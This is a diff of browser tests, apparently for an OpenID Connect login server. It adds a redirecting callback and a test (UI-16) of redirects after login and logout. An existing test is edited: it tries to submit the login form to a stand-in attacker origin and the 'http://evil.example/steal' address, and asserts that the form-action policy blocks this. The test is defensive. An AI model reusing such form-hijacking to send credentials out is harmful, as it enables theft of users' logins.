@@ -29,7 +29,8 @@ const PAYLOADS = [
 function serve(port, pages) {
   const server = http.createServer((request, answer) => {
     const path = new URL(request.url, 'http://x').pathname;
-    const { headers = {}, html = '<p>Application</p>' } = pages[path] ?? {};
+    const { status = 200, headers = {}, html = '<p>Application</p>' } = pages[path] ?? {};
+    answer.statusCode = status;
     for (const [name, value] of Object.entries(headers)) answer.setHeader(name, value);
     answer.setHeader('content-type', 'text/html; charset=utf-8');
     answer.end(`<!doctype html><html lang="en"><title>Page</title><link rel="icon" href="data:,">${html}`);
@@ -46,7 +47,9 @@ for (const kind of DATABASES) {
       origin = `http://localhost:${applicationPort}`;
       evil = `http://127.0.0.1:${evilPort}`; // another site than localhost
       pages = {};
-      servers = [await serve(applicationPort, {}), await serve(evilPort, pages)];
+      // A callback that goes on to the application's other origin, as one at an API does.
+      const goesOn = { headers: { location: `${evil}/home` }, status: 302 };
+      servers = [await serve(applicationPort, { '/goes-on': goesOn }), await serve(evilPort, pages)];
       const named = PAYLOADS.map(
         (name, i) => `
 [[clients]]
@@ -62,8 +65,8 @@ redirect_uris = ["${origin}/callback"]
 id = "page"
 name = "A page"
 kind = "spa"
-redirect_uris = ["${origin}/callback"]
-post_logout_redirect_uris = ["${origin}/"]
+redirect_uris = ["${origin}/callback", "${origin}/goes-on"]
+post_logout_redirect_uris = ["${origin}/", "${origin}/goes-on"]
 
 [[clients]]
 id = "own"
@@ -298,14 +301,34 @@ ${named}`,
           new Promise((resolve) => {
             document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
             const form = document.querySelector('form');
-            form.action = `${evil}/steal`;
+            form.action = evil;
             form.noValidate = true;
             form.submit();
           }),
-        evil,
+        'http://evil.example/steal', // not of this machine, where the application is, and not https
       );
       assert.equal(blocked, 'form-action');
       assert.equal(new URL(page.url()).origin, new URL(gatekey.issuer).origin);
+    });
+
+    // Chromium holds all redirects after a form to the policy of the form's page.
+    test('UI-16 an application may go on to where it likes from its callback', async () => {
+      const redirect_uri = `${origin}/goes-on`;
+      const third = { client_id: 'page', redirect_uri };
+      await page.goto(authorize(third));
+      await signIn(page, USER);
+      await allow(page);
+      await page.waitForURL(`${evil}/home`);
+      await page.goto(authorize({ ...third, prompt: 'login', response_mode: 'form_post' }));
+      await page.locator('input[name=password]').fill(USER.password);
+      await page.locator('button[type=submit]').first().click();
+      await page.waitForURL(`${evil}/home`);
+      const end = new URL(at('oidc/logout'));
+      end.search = new URLSearchParams({ client_id: 'page', post_logout_redirect_uri: redirect_uri });
+      await page.goto(end.href);
+      await allow(page);
+      await page.waitForURL(`${evil}/home`);
+      assert.equal(await somebodyIsSignedIn(), false);
     });
 
     test('UI-18 going back after signing out shows nothing of the user', async () => {
